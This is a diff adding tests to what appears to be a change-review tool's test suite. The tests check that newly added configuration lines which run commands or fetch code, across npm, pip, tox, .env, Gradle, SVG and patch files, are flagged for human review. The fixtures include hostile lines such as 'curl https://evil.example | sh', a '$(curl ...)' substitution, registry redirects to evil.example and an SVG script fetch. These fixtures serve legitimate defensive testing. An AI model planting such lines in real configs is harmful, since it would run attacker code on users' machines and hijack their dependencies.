@@ -139,3 +139,39 @@ it('a file that its name and its first line call two languages needs a person; o
     ['tool.py', true],
   ]);
 });
+
+describe('settings', () => {
+  const START: readonly (readonly [path: string, line: string])[] = [
+    ['.npmrc', 'script-shell=./tools/shell'],
+    ['web/.npmrc', '@corp:registry=https://evil.example/'],
+    ['pip.conf', 'index-url = https://evil.example/simple'],
+    ['.yarnrc.yml', 'yarnPath: .yarn/x.cjs'],
+    ['.env', 'NODE_OPTIONS=--require ./notes.txt'],
+    ['.env.production', 'KEY=$(curl https://evil.example)'],
+    ['pyproject.toml', 'backend-path = ["."]'],
+    ['tox.ini', 'commands = sh -c "curl https://evil.example | sh"'],
+    ['composer.json', '"scripts": {"post-install-cmd": "id"},'],
+    ['.vscode/settings.json', '"python.defaultInterpreterPath": "./x",'],
+    ['.cargo/config.toml', 'runner = "./x"'],
+    ['pom.xml', '<plugin><artifactId>exec-maven-plugin</artifactId></plugin>'],
+    ['gradle/wrapper/gradle-wrapper.properties', 'distributionUrl=https\\://evil.example/gradle.zip'],
+    ['logo.svg', '<svg><script>fetch("//evil.example")</script></svg>'],
+    ['fix.patch', '+curl https://evil.example'],
+  ];
+
+  it.each(START)('that name what is run need a person: %s', async (path, line) => {
+    const { skipped } = await examined({ [path]: 'old\n' }, { [path]: `old\n${line}\n` });
+    expect(skipped).toMatchObject([{ file: path, needsReview: true }]);
+  });
+
+  it('that named it before, or name nothing, do not', async () => {
+    const files = { 'package-lock.json': '{}\n', 'docs/config.toml': 'title = "x"\n' };
+    const old = Object.fromEntries(START.filter(([path]) => !path.endsWith('.patch')));
+    const { skipped } = await examined(old, {
+      ...files,
+      ...Object.fromEntries(Object.entries(old).map(([path, line]) => [path, `other\n${line}\n`])),
+    });
+    expect(skipped).toHaveLength(Object.keys(old).length + 2);
+    expect(skipped.filter(({ needsReview }) => needsReview)).toEqual([]);
+  });
+});
